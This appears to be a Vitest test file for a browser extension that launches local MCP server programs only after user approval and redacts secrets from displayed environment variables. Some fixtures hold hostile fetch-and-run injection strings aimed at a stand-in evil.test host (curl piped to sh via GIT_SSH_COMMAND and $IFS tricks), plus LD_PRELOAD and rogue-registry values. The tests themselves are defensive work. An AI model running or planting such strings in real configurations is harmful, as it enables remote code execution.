import 'fake-indexeddb/auto';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { sentenceOf } from '../../components/options/server-status.ts';
import { createFetches } from '../../entrypoints/background/servers/fetches.ts';
import { createNativeHost, requireNative } from '../../entrypoints/background/servers/native-host.ts';
import { AppError } from '../../lib/errors.ts';
import type { NativeLink } from '../../lib/mcp/transport/native-link.ts';
import type { Request } from '../../lib/protocol/commands.ts';
import type { ServerInput } from '../../lib/protocol/servers.ts';
import { openDatabase } from '../../lib/storage/database.ts';
import type { Database } from '../../lib/storage/schema.ts';
import { putServer } from '../../lib/storage/configuration/servers.ts';
import {
  type CheckStep,
  type Launch,
  NATIVE_PROTOCOL,
  type NativeReply,
  type NativeRequest,
} from '../../lib/types/native-host.ts';
import { startWorkerServers } from './rig.ts';
import { storedSecrets } from '../fakes/secrets.ts';

const fake = vi.hoisted(() => ({
  granted: true,
  browser: { permissions: { contains: async () => fake.granted }, runtime: {} as object },
}));
vi.mock('wxt/browser', () => fake);

const program: Extract<ServerInput, { command: string }> = {
  name: 'Local',
  enabled: true,
  toolTimeout: 1000,
  trusted: false,
  oneAtATime: false,
  transport: 'stdio',
  command: 'npx',
  args: ['-y', 'files'],
  env: { KEY: 'hush', OTHER: 'value' },
};
const shown = {
  command: 'npx',
  args: ['-y', 'files'],
  envNames: ['KEY', 'OTHER'],
  openEnv: { OTHER: 'value' },
};

let db: Database;
let databases = 0;
let worker: ReturnType<typeof startWorkerServers>;
let nativeHost: ReturnType<typeof createNativeHost>;
let started: Launch[];
let idle: (number | null)[];
let asked: NativeRequest[];
let native: NativeLink;
let fetches: ReturnType<typeof createFetches>;

beforeEach(async () => {
  db = await openDatabase(`background-native-host-${++databases}`);
  started = [];
  idle = [];
  asked = [];
  native = {
    about: async () => ({
      type: 'hello',
      protocol: NATIVE_PROTOCOL,
      version: '1.2.3',
      node: '24.0.0',
      policy: null,
    }),
    ask: async (request): Promise<NativeReply> => {
      asked.push(request);
      return { type: 'steps', steps: [] };
    },
    // What is started says nothing more than that it failed, which is enough to see that it was.
    start: async (launch, idleMs) => {
      started.push(launch);
      idle.push(idleMs);
      throw new AppError({ code: 'server_not_started', message: 'It was started.' });
    },
  };
  worker = startWorkerServers(db, { native });
  fetches = createFetches();
  nativeHost = createNativeHost(db, { native, connect: worker.servers.reconnect, during: fetches.during });
});

const statusOf = (id: number) => worker.connections.status(id);

/** As the form does when the user presses Check. */
async function checkAllowed({ fetchId, ...typed }: Request<'checkProgram'>): Promise<CheckStep[]> {
  await nativeHost.allowCheck(typed);
  return nativeHost.checkProgram({ ...typed, ...(fetchId !== undefined && { fetchId }) });
}

describe('a program', () => {
  it('that the user typed and saved is started as it was typed', async () => {
    await worker.servers.add({ ...program, cwd: '/tmp', launchAllowed: true });
    const { command, args, env } = program;
    expect(started).toEqual([{ command, args, cwd: '/tmp', env }]);
  });

  it('is ended after ten minutes without anything to do, unless it is to be kept running', async () => {
    await worker.servers.add({ ...program, launchAllowed: true });
    await worker.servers.add({ ...program, launchAllowed: true, keepRunning: true });
    expect(idle).toEqual([600_000, null]);
  });

  it('that the user has not seen is not started, which is said, and no fault', async () => {
    const { ok, error } = await worker.servers.add(program);
    expect([ok, error?.code]).toEqual([false, 'server_launch']);
    expect(statusOf(1)).toEqual({ state: 'disconnected', reason: 'launch', toolCount: 0 });
    expect((await worker.tools.offer('c1', undefined)).missing).toEqual(['Local']);
    expect(started).toEqual([]);
  });

  it('that waits for the browser to apply the permission has not failed', async () => {
    native.start = () => requireNative().then(() => Promise.reject(new Error('It was started.')));
    await worker.servers.add({ ...program, launchAllowed: true });
    const status = statusOf(1);
    expect(status).toMatchObject({ state: 'disconnected', error: { code: 'native_host_waiting' } });
    const [server] = await db.getAll('servers');
    expect(server && sentenceOf(server, status)).toBe(status.error?.message);
  });

  it('starts once it was seen and allowed, and needs no more of that', async () => {
    await worker.servers.add(program);
    await nativeHost.allow({ id: 1, ...shown });
    await worker.servers.reconnect({ id: 1 });
    expect(started).toHaveLength(2);
  });

  it.each<[string, Partial<typeof program>]>([
    ['command', { command: 'uvx' }],
    ['arguments', { args: ['-y', 'other'] }],
    ['working directory', { cwd: '/tmp' }],
    ['environment', { env: { KEY: 'other', OTHER: 'value' } }],
  ])('is not started with another %s before that was seen', async (_, change) => {
    await worker.servers.add({ ...program, launchAllowed: true });
    started.length = 0;
    await worker.servers.add({ ...program, ...change, id: 1 });
    expect(statusOf(1).reason).toBe('launch');
    expect(started).toEqual([]);
  });

  it('is started with another name or timeout without further ado', async () => {
    await worker.servers.add({ ...program, launchAllowed: true });
    const { env: _env, ...rest } = program;
    await worker.servers.add({ ...rest, id: 1, name: 'Renamed', toolTimeout: 2000 });
    await worker.servers.reconnect({ id: 1 });
    expect(statusOf(1).error?.code).toBe('server_not_started');
  });

  describe('whose arguments refer to what an import asked for', () => {
    const referring = { ...program, args: ['--key=${input:key}', '${HOME}'], env: {} };
    const answers = { 'input:key': 'hush-hush-hush' };
    const filled = ['--key=hush-hush-hush', '${HOME}'];

    it('is started with that, which stands in nothing that pages see', async () => {
      await worker.servers.add({ ...referring, answers, launchAllowed: true });
      expect(started.map(({ args }) => args)).toEqual([filled]);
      expect(JSON.stringify(await worker.servers.list())).not.toContain('hush');
      expect(await db.get('servers', 1)).toMatchObject({
        args: referring.args,
        answerNames: ['input:key'],
      });
      expect((await worker.configFiles.exportAll({ withSecrets: false })).text).not.toContain('hush');
      expect((await worker.configFiles.exportAll({ withSecrets: true })).text).toContain(filled[0]);
    });

    it('keeps it as long as they refer to it and the command is the same', async () => {
      const stored = async () => (await storedSecrets(db))['server:1:answers'];
      await worker.servers.add({ ...referring, answers, launchAllowed: true });
      await worker.servers.add({ ...referring, id: 1, args: ['-v', ...referring.args], launchAllowed: true });
      expect(started.at(-1)?.args).toEqual(['-v', ...filled]);
      const uvx = { ...program, id: 1, command: 'uvx', launchAllowed: true };
      const refused = await worker.servers.add({ ...uvx, args: referring.args });
      expect(refused).toMatchObject({ ok: false, error: { code: 'invalid_args' } });
      await worker.servers.add(uvx);
      expect([started.at(-1)?.args, await stored()]).toEqual([program.args, undefined]);
      await worker.servers.add({ ...referring, id: 1, answers });
      await worker.servers.add({ ...referring, id: 1, args: ['--key=typed'] });
      expect(await stored()).toEqual({});
    });

    it('is seen again when that is another', async () => {
      await worker.servers.add({ ...referring, answers, launchAllowed: true });
      await worker.servers.add({ ...referring, id: 1, answers: { 'input:key': 'other' } });
      expect(statusOf(1).reason).toBe('launch');
    });

    it('is told of without that in errors and checks', async () => {
      native.start = async () => Promise.reject(new Error('no --key=hush-hush-hush'));
      await worker.servers.add({ ...referring, answers, launchAllowed: true });
      expect(statusOf(1).error?.cause).toContain('no --key=•••');
      native.ask = async (request) => {
        asked.push(request);
        return { type: 'steps', steps: [{ step: 'answer', ok: false, why: 'hush-hush-hush', stderr: [] }] };
      };
      const { command, args } = referring;
      const steps = await nativeHost.checkProgram({ id: 1, command, args });
      expect([asked[0]?.type === 'check' && asked[0].launch.args, steps]).toMatchObject([
        filled,
        [{ why: '•••' }],
      ]);
    });
  });

  it('shows the values of all variables but of those that sound secret', async () => {
    const env = {
      LD_PRELOAD: '/tmp/x.so',
      NODE_OPTIONS: '-r x',
      HOME: '/x',
      npm_config_package: 'x',
      GIT_ASKPASS: 'x',
      'npm_config_@auth0:registry': 'https://npm.evil.test/',
      CARGO_REGISTRIES_KEYS_INDEX: 'https://crates.evil.test/',
      'BASH_FUNC_ssh-keygen%%': '() { x; }',
    };
    const others = { NODE_ENV_KEY: 'hush', GITHUB_TOKEN: 'hush', DB_PASSWORD: 'hush', LDAP_AUTH: 'hush' };
    await worker.servers.add({ ...program, env: { ...env, ...others } });
    expect(await db.get('servers', 1)).toMatchObject({ openEnv: env });
    expect(JSON.stringify(await worker.servers.list())).not.toContain('hush');
    const { env: _env, ...rest } = program;
    await worker.servers.add({ ...rest, id: 1, name: 'Renamed' });
    expect(await db.get('servers', 1)).toMatchObject({ name: 'Renamed', openEnv: env });
    await worker.servers.add({ ...program, id: 1 });
    expect(await db.get('servers', 1)).toHaveProperty('openEnv', { OTHER: 'value' });
  });

  it('shows where the code comes from, but no password that stands there', async () => {
    const open = {
      npm_config_registry: 'https://npm.evil.test',
      NPM_CONFIG_REGISTRY: 'https://npm.evil.test',
      UV_INDEX_URL: 'https://pypi.evil.test/simple',
      UV_DEFAULT_INDEX: 'https://pypi.evil.test/simple',
      PIP_INDEX_URL: 'https://pypi.evil.test/simple',
      PIP_CONFIG_FILE: '/tmp/pip.conf',
    };
    const opened = {
      PIP_EXTRA_INDEX_URL: 'https://me:hush@pypi.evil.test/simple?token=hush',
      UV_INDEX: 'https://me:a@hush@pypi.evil.test/simple https://pypi.evil.test?a@hush',
      DATABASE: 'postgres://me:hush!$@db.test/x',
    };
    const others = { UV_INDEX_MINE_PASSWORD: 'hush', NPM_CONFIG_REGISTRY_TOKEN: 'hush' };
    const id = (await worker.servers.add({ ...program, env: { ...open, ...opened, ...others } })).id;
    expect(await db.get('servers', id ?? 0)).toMatchObject({
      openEnv: {
        ...open,
        PIP_EXTRA_INDEX_URL: 'https://•••@pypi.evil.test/simple?•••',
        UV_INDEX: 'https://•••@pypi.evil.test/simple https://pypi.evil.test?•••',
        DATABASE: 'postgres://•••@db.test/x',
      },
    });
    expect(JSON.stringify(await worker.servers.list())).not.toContain('hush');
  });

  it('shows what only looks like the password of an address', async () => {
    const env = {
      npm_config_registry: 'https://evil.test\\@registry.test/',
      GIT_SSH_COMMAND: 'x://|curl${IFS}evil.test|sh;@',
      PATH: 'x://?a:/tmp/evil',
    };
    await worker.servers.add({ ...program, env });
    expect(await db.get('servers', 1)).toHaveProperty('openEnv', { ...env, PATH: 'x://?•••:/tmp/evil' });
  });

  it('shows what a variable has run, however secret it sounds', async () => {
    const env = {
      GOAUTH: 'sh',
      CARGO_REGISTRY_GLOBAL_CREDENTIAL_PROVIDERS: 'cargo:token-from-stdout',
      NUGET_CREDENTIALPROVIDERS_PATH: 'evil',
      PYTHON_KEYRING_BACKEND: 'evil.Backend',
      RESTIC_PASSWORD_COMMAND: 'evil',
      ANSIBLE_VAULT_PASSWORD_FILE: 'evil.sh',
      A_TOKEN: 'npx evil',
      B_TOKEN: '{curl,evil.test}|sh',
      C_TOKEN: 'sh${IFS}x',
      D_TOKEN: 'Bearer x;sh',
      E_TOKEN: 'curl$IFS-o/tmp/a',
      F_TOKEN: 'npx$BLANK-y',
      G_TOKEN: 'x&/tmp/evil',
      H_TOKEN: '/tmp/evil',
      I_TOKEN: '~/evil',
      J_TOKEN: '$HOME/evil',
      K_TOKEN: '\\\\evil.test\\x.dll',
      L_TOKEN: '-----BEGIN KEY-----\n$(sh)\n-----END KEY-----',
      BLANK: ' ',
    };
    const opened = {
      GIT_SSH_COMMAND: 'ssh://git.test/?x&curl$IFS-o/tmp/a$IFS$9evil.test&&sh$IFS/tmp/a',
      GIT_PROXY_COMMAND: 'ssh://git.test/?x$IFS/tmp/a',
      FEED: 'https://feed.test/?a=hush&b=hush',
    };
    const secrets = {
      AWS_SECRET_ACCESS_KEY: '/hUsh+7MDENG/bPxRfiCYhushEKEY',
      DB_PASSWORD: 'hush&$h!#%^*9',
      AUTH_HEADER: 'Authorization: Bearer hush',
      API_TOKEN: 'Bearer hush',
      PRIVATE_KEY: '-----BEGIN RSA PRIVATE KEY-----\nhush+/=\nhush\n-----END RSA PRIVATE KEY-----\n',
      GOOGLE_CREDENTIALS: '{ "private_key": "hush" }',
    };
    await worker.servers.add({ ...program, env: { ...env, ...opened, ...secrets } });
    expect(await db.get('servers', 1)).toHaveProperty('openEnv', {
      ...env,
      GIT_SSH_COMMAND: 'ssh://git.test/?•••&curl$IFS-o/tmp/a$IFS$9evil.test&&sh$IFS/tmp/a',
      GIT_PROXY_COMMAND: 'ssh://git.test/?•••$IFS/tmp/a',
      FEED: 'https://feed.test/?•••',
    });
    expect(JSON.stringify(await worker.servers.list())).not.toContain('hush');
  });

  it('shows them without what an import asked for as a password', async () => {
    const env = {
      NODE_OPTIONS: '--title=hush-hush-hush -r ./x.js',
      PIP_INDEX_URL: 'https://me:hush-hush@pypi.test/hush',
      ID: 'hush-hush',
      PATH: '/x',
      SEPARATOR: '/',
    };
    const answers = { 'input:part': 'hush', 'input:key': 'hush-hush', 'input:separator': '/' };
    await worker.servers.add({
      ...program,
      args: Object.keys(answers).map((id) => `\${${id}}`),
      env,
      answers,
    });
    expect(await db.get('servers', 1)).toHaveProperty('openEnv', {
      NODE_OPTIONS: '--title=•••-••• -r ./x.js',
      PIP_INDEX_URL: 'https://•••@pypi.test/•••',
      PATH: '/x',
    });
    expect(JSON.stringify(await worker.servers.list())).not.toContain('hush');
  });

  it('that ended again and again is not started by a page that opens, but by who wants it', async () => {
    native.start = async (launch) => {
      started.push(launch);
      throw new AppError({ code: 'server_ended', message: 'It ended.' });
    };
    await worker.servers.add({ ...program, launchAllowed: true });
    const before = started.length;
    await worker.connections.revive('page');
    expect(started).toHaveLength(before);
    await worker.connections.revive('run');
    expect(started.length).toBeGreaterThan(before);
  });

  it('is allowed only as the page showed it', async () => {
    await worker.servers.add(program);
    const stale = nativeHost.allow({ id: 1, ...shown, args: ['-y', 'what was there before'] });
    await expect(stale).rejects.toMatchObject({ code: 'launch_changed' });
    await expect(nativeHost.allow({ id: 9, ...shown })).rejects.toMatchObject({ code: 'launch_changed' });
    const otherValue = nativeHost.allow({ id: 1, ...shown, openEnv: { OTHER: 'what was there before' } });
    await expect(otherValue).rejects.toMatchObject({ code: 'launch_changed' });
    expect(started).toEqual([]);
  });

  it('that is off is allowed without being started', async () => {
    await worker.servers.add({ ...program, enabled: false });
    expect(await nativeHost.allow({ id: 1, ...shown })).toEqual({ ok: true });
    expect(started).toEqual([]);
    await worker.servers.switchOn({ id: 1 });
    expect(started).toHaveLength(1);
  });

  it('of a configuration file that can’t be added is named, and nothing is added with it', async () => {
    const servers = [program, { ...program, name: 'Notes', cwd: 'src' }];
    await expect(worker.configFiles.importAll({ servers })).rejects.toMatchObject({
      code: 'invalid_cwd',
      message: 'Notes: Working directory is not a full path.',
      fix: expect.stringContaining('full path'),
    });
    expect(await db.getAll('servers')).toEqual([]);
  });

  it('of a configuration file is not started with variables that nobody saw, once its arguments are edited', async () => {
    await worker.configFiles.importAll({ servers: [program] });
    const { env: _stored, ...edited } = { ...program, id: 1, args: ['-y', 'files', '/home'] };
    await worker.servers.add({ ...edited, launchAllowed: true });
    expect([statusOf(1).reason, started]).toEqual(['launch', []]);
    await nativeHost.allow({ id: 1, ...shown, args: edited.args });
    await worker.servers.add({ ...edited, args: [], launchAllowed: true });
    expect(started.map(({ args }) => args)).toEqual([edited.args, []]);
  });

  it('of a configuration file has to be seen and is not trusted, whatever the file says', async () => {
    await worker.configFiles.importAll({ servers: [{ ...program, launchAllowed: true, trusted: true }] });
    expect(await db.getAll('servers')).toMatchObject([{ trusted: false }]);
    await worker.servers.switchOn({ id: 1 });
    expect(statusOf(1).reason).toBe('launch');
  });
});

describe('the native host', () => {
  it('is ready, to be updated or missing', async () => {
    expect(await nativeHost.status()).toEqual({
      state: 'ready',
      version: '1.2.3',
      node: '24.0.0',
      policy: null,
    });
    native.about = async () => ({
      type: 'hello',
      protocol: 0,
      version: '0.9.0',
      node: '20.0.0',
      policy: null,
    });
    expect(await nativeHost.status()).toMatchObject({ state: 'outdated', version: '0.9.0' });
    native.about = async () => {
      throw new AppError({ code: 'native_host_missing', message: 'It is not there.' });
    };
    expect(await nativeHost.status()).toMatchObject({
      state: 'missing',
      error: { code: 'native_host_missing' },
    });
  });

  it('is started only where the browser allows it, and says whether that or a new worker is missing', async () => {
    native.about = async () => Promise.reject(await requireNative().catch((error: unknown) => error));
    fake.granted = false;
    expect(await nativeHost.status()).toMatchObject({
      state: 'not_allowed',
      error: { fix: 'Allow it in Settings, under Servers.', retryable: false },
    });
    // Chromium has no `connectNative` in a worker that is older than the permission.
    fake.granted = true;
    expect(await nativeHost.status()).toMatchObject({ state: 'waiting', error: { retryable: false } });
    fake.browser.runtime = { connectNative: () => undefined };
    await expect(requireNative()).resolves.toBeUndefined();
  });

  it('checks a program with the environment that is stored, for the same program alone', async () => {
    await putServer(db, { ...program, launchAllowed: true });
    const { command, args } = shown;
    await nativeHost.checkProgram({ id: 1, command, args });
    await checkAllowed({ id: 1, command, args: ['other'] });
    await checkAllowed({ command, args, env: { A: 'b' } });
    const env = asked.map((request) => request.type === 'check' && request.launch.env);
    expect(env).toEqual([program.env, {}, { A: 'b' }]);
  });

  it.each<[string, () => Promise<unknown>]>([
    ['was added and declined', () => worker.servers.add({ ...program, enabled: false })],
    [
      'is off and has another environment now',
      async () => {
        await worker.servers.add({ ...program, enabled: false, launchAllowed: true });
        await worker.servers.add({ ...program, id: 1, enabled: false, env: { KEY: 'other' } });
      },
    ],
    ['came with a file', () => worker.configFiles.importAll({ servers: [program] })],
  ])('is not asked to check a program that %s', async (_, make) => {
    await make();
    const { command, args } = shown;
    for (const more of [{}, { cwd: '/tmp' }, { env: { KEY: 'typed' } }])
      await expect(checkAllowed({ id: 1, command, args, ...more })).rejects.toMatchObject({
        code: 'server_launch',
      });
    expect(asked).toEqual([]);
    await checkAllowed({ id: 1, command: 'what the user typed', args });
    expect(asked).toHaveLength(1);
  });

  it('starts nothing to check it that the user has not allowed just so', async () => {
    const typed = { command: 'npx', args: ['-y', 'typed'], env: { KEY: 'hush' } };
    const refused = { code: 'server_launch', message: expect.stringContaining('npx starts a program') };
    await expect(nativeHost.checkProgram(typed)).rejects.toMatchObject(refused);
    await nativeHost.allowCheck(typed);
    for (const other of [
      { command: 'uvx' },
      { args: ['-y', 'other'] },
      { cwd: '/tmp' },
      { env: { KEY: 'other' } },
    ])
      await expect(nativeHost.checkProgram({ ...typed, ...other })).rejects.toMatchObject({
        code: 'server_launch',
      });
    expect(asked).toEqual([]);
    await nativeHost.checkProgram(typed);
    expect(asked).toMatchObject([{ type: 'check', launch: typed }]);
    expect(JSON.stringify(await db.getAll('secrets'))).not.toContain('hush');
    await nativeHost.allowCheck({ ...typed, args: [] });
    await expect(nativeHost.checkProgram(typed)).rejects.toMatchObject({ code: 'server_launch' });
  });

  it('checks a server that was allowed to start, but with nothing else than that', async () => {
    await putServer(db, { ...program, launchAllowed: true });
    const { command, args } = shown;
    for (const more of [{ cwd: '/tmp' }, { env: { KEY: 'typed' } }])
      await expect(nativeHost.checkProgram({ id: 1, command, args, ...more })).rejects.toMatchObject({
        code: 'server_launch',
      });
    expect(asked).toEqual([]);
  });

  it('tells of a check nothing that stands in the environment', async () => {
    const key = ['-----BEGIN KEY-----', 'c2VjcmV0IHNlY3JldA==', '-----END KEY-----'];
    const env = { TOKEN: 'hush-hush-hush', KEY: key.join('\n'), ESCAPED: 'first part\\nsecond part' };
    const secret = [...key, 'hush-hush-hush', 'second part'];
    const said = ['It failed', ...secret, `${'x'.repeat(990)}hush-hush-`];
    const exit = { type: 'ended', code: 1, signal: null, stderr: said } as const;
    const steps: CheckStep[] = [
      { step: 'start', ok: false, exit },
      { step: 'answer', ok: false, why: `no, hush-hush-hush`, stderr: said },
      { step: 'answer', ok: true, name: secret.join('\n'), version: 'hush-hush-hush', protocolVersion: '1' },
    ];
    native.ask = async () => ({ type: 'steps', steps });
    const told = JSON.stringify(await checkAllowed({ command: 'npx', args: [], env }));
    expect(told).toContain('It failed');
    expect(told).not.toMatch(/hush|KEY|c2Vj|second part/);
  });

  it('ends what it checks for a page that has gone', async () => {
    let signal: AbortSignal | undefined;
    native.ask = (_, given) =>
      new Promise((resolve) => {
        signal = given;
        given?.addEventListener('abort', () => resolve({ type: 'steps', steps: [] }));
      });
    const checked = checkAllowed({ command: 'npx', args: [], fetchId: 'f1' });
    await vi.waitFor(() => expect(signal).toBeDefined());
    fetches.cancel({ fetchId: 'another' });
    expect(signal?.aborted).toBe(false);
    fetches.cancel({ fetchId: 'f1' });
    expect(await checked).toEqual([]);
  });

  it('is not asked to check what is no program', async () => {
    await expect(nativeHost.checkProgram({ command: '', args: [] })).rejects.toMatchObject({
      code: 'invalid_command',
    });
    expect(asked).toEqual([]);
  });
});
